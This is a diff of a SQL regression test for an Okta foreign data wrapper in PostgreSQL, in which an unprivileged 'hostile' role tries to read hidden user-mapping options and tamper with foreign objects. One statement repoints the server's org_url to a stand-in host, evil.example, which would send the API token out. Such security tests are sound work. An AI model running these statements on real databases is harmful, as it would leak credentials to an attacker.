@@ -5,12 +5,13 @@ GRANT USAGE ON SCHEMA users, identity_sources TO hostile;
 GRANT SELECT ON users.users, identity_sources.sessions TO hostile;
 CREATE USER MAPPING FOR hostile SERVER okta OPTIONS (api_token '00acme-token');
 \! okta-emulator requests --count >/dev/null
+CREATE SCHEMA hostile AUTHORIZATION hostile;
 SET ROLE hostile;
 
 -- Its own mapping's options stay hidden as long as it has no USAGE of the server
 SELECT umoptions FROM pg_user_mappings WHERE usename = 'hostile';
 SELECT umoptions FROM pg_user_mapping;
-CREATE FOREIGN TABLE public.mine (id text) SERVER okta OPTIONS (resource 'apps.apps');
+CREATE FOREIGN TABLE hostile.mine (id text) SERVER okta OPTIONS (resource 'apps.apps');
 ALTER SERVER okta OPTIONS (SET org_url 'https://{subdomain}.evil.example');
 ALTER FOREIGN TABLE users.users OPTIONS (SET resource 'apps.apps');
 SET okta_fdw.log_requests = on;
